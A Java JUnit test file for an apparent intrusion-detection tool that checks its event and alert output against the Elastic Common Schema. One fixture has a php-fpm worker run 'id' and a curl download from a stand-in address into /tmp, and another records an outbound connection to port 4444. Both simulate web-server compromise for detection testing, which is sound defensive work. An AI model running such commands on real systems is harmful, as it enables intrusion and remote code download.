package io.spawnwatch.ecs;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.core.JsonFactory;
import com.fasterxml.jackson.core.JsonGenerator;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.spawnwatch.enrich.EnrichedEvent;
import io.spawnwatch.event.TestRecords;
import io.spawnwatch.rules.model.DetectionConfig;
import io.spawnwatch.rules.model.RuleMetadata;
import io.spawnwatch.rules.model.RuleSource;
import io.spawnwatch.rules.engine.RuleSetCompiler;
import java.io.StringWriter;
import java.lang.foreign.MemorySegment;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Every field the writer emits, in events and in alerts of every shipped rule,
 * checked against ECS's published definitions (see {@link EcsSchema}); the
 * kernel test RealRunEcsTest checks the documents of a real run the same way.
 */
class EcsSchemaTest {
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final EcsSchema ECS = EcsSchema.load();
    @TempDir
    Path dir;
    private PhpFpmHost host;
    private EnrichedEvent event;
    private final EcsEventWriter writer = new EcsEventWriter(EcsEventWriterTest.HOST, EcsEventWriterTest.AGENT);

    @BeforeEach
    void setUp() throws Exception {
        host = new PhpFpmHost(dir);
        event = host.event;
    }

    private void wrap(MemorySegment record) {
        host.wrap(record);
    }

    private JsonNode render(RuleMetadata rule) throws Exception {
        StringWriter out = new StringWriter();
        try (JsonGenerator g = new JsonFactory().createGenerator(out)) {
            if (rule == null) {
                writer.writeEvent(g, event);
            } else {
                writer.writeAlert(g, event, rule, 2);
            }
        }
        return JSON.readTree(out.toString());
    }

    private static List<RuleMetadata> shippedRules() throws Exception {
        RuleSetCompiler.Result r = RuleSetCompiler.compile(RuleSource.builtin(), DetectionConfig.defaults());
        assertEquals(List.of(), r.errors());
        return r.rules().stream().map(s -> s.metadata()).toList();
    }

    private List<String> check(RuleMetadata rule) throws Exception {
        JsonNode d = render(rule);
        List<String> v = new ArrayList<>(ECS.violations(d));
        if (!v.isEmpty()) {
            v.add("document: " + d);
        }
        return v;
    }

    @Test
    void shouldPinTheEcsVersionTheDocumentsClaim() {
        assertEquals(EcsEventWriter.ECS_VERSION, ECS.version());
    }

    @Test
    void shouldWriteOnlyEcsFieldsOfTheRightTypeInExecEventsAndAlerts() throws Exception {
        wrap(TestRecords.exec(300, 200, "sh", "php-fpm8.2", "/usr/bin/dash", "/var/www/html", "/usr/sbin/php-fpm8.2",
                33, 100, 2, "sh", "-c", "id; curl -s http://203.0.113.9/x -o /tmp/x"));
        assertEquals(List.of(), check(null));
        for (RuleMetadata rule : shippedRules()) {
            if (rule.eventType() == io.spawnwatch.event.EventType.EXEC) {
                assertEquals(List.of(), check(rule), rule.title());
            }
        }
    }

    @Test
    void shouldWriteOnlyEcsFieldsOfTheRightTypeInConnectEventsAndAlerts() throws Exception {
        for (String[] addresses : new String[][] {{"10.0.0.5", "203.0.113.9"}, {"fd00::5", "2001:db8::7"}}) {
            wrap(TestRecords.connect(200, 100, "php-fpm8.2", "php-fpm8.2", 33, 100, 1, addresses[0], addresses[1],
                    4444));
            assertEquals(List.of(), check(null));
            for (RuleMetadata rule : shippedRules()) {
                if (rule.eventType() == io.spawnwatch.event.EventType.CONNECT) {
                    assertEquals(List.of(), check(rule), rule.title());
                }
            }
        }
    }

    @Test
    void shouldReportFieldsTypesAndCategoriesThatEcsDoesNotDefine() throws Exception {
        JsonNode bad = JSON.readTree("""
                {"@timestamp":"yesterday","process":{"pid":"12","args":"sh -c id","colour":"red"},
                 "source":{"ip":"not-an-ip"},"event":{"kind":"incident","category":["process"],
                 "type":["connection"]},"spawnwatch":{"anything":[1,{"x":2}]}}""");
        assertEquals(List.of(
                "@timestamp: ECS type date, found \"yesterday\"",
                "process.pid: ECS type long, found \"12\"",
                "process.args: ECS expects an array, found \"sh -c id\"",
                "process.colour: not an ECS 9.3.0 field (and not under spawnwatch.*)",
                "source.ip: ECS type ip, found \"not-an-ip\"",
                "event.kind: 'incident' is not an allowed value; allowed: " + allowed("event.kind"),
                "event.type: 'connection' is not one ECS expects with event.category 'process'; expected: "
                        + expected("process")), ECS.violations(bad));
    }

    private static String allowed(String field) throws Exception {
        JsonNode root = new ObjectMapper(new com.fasterxml.jackson.dataformat.yaml.YAMLFactory())
                .readTree(EcsSchema.class.getResourceAsStream("/ecs/ecs_flat_subset.yml"));
        java.util.Set<String> s = new java.util.HashSet<>();
        root.path("fields").path(field).path("allowed_values").forEach(v -> s.add(v.asText()));
        return s.toString();
    }

    private static String expected(String category) throws Exception {
        JsonNode root = new ObjectMapper(new com.fasterxml.jackson.dataformat.yaml.YAMLFactory())
                .readTree(EcsSchema.class.getResourceAsStream("/ecs/ecs_flat_subset.yml"));
        java.util.Set<String> s = new java.util.HashSet<>();
        root.path("fields").path("event.category").path("expected_event_types").path(category)
                .forEach(v -> s.add(v.asText()));
        return s.toString();
    }
}
